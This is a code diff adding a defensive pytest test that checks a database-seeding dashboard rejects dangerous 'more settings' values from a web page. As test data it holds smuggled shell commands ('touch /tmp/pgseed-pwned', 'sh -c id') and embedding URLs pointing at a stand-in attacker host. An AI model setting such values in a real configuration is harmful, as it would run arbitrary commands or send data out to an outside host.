@@ -114,3 +114,24 @@ def test_a_wildcard_bind_answers_to_this_machine(bound: str, name: str) -> None:
             assert r.status_code == 200, (host, r.text)
         for host in ("evil.example:8765", f"{name}.evil.example:8765", f"{name}:9999"):
             assert c.get("/pack/retail", headers={"Host": host}).status_code == 403, host
+
+
+@pytest.mark.parametrize(
+    ("pack", "action", "more"),
+    [
+        ("social", "generate", "jobs_command=touch /tmp/pgseed-pwned"),
+        ("social", "generate", "jobsCommand=touch /tmp/pgseed-pwned"),
+        ("social", "append", " jobs-command = sh -c id"),
+        ("retail", "generate", "rag.embedding_url=http://attacker.example/v1/embeddings"),
+        ("retail", "generate", "rag.embeddingUrl=http://attacker.example/"),
+    ],
+)
+def test_a_page_cannot_set_keys_that_act_outside_the_database(
+    admin: None, pack: str, action: str, more: str
+) -> None:
+    # Whoever reaches the dashboard must not run programs on its machine, or send the
+    # data elsewhere, through "more settings".
+    steps = ui_for(pack).steps(action, {"more": more}, preview=False)
+    message = forms.check(steps)
+    assert message is not None and "does not take it from a page" in message, steps
+    assert "Fix:" in message
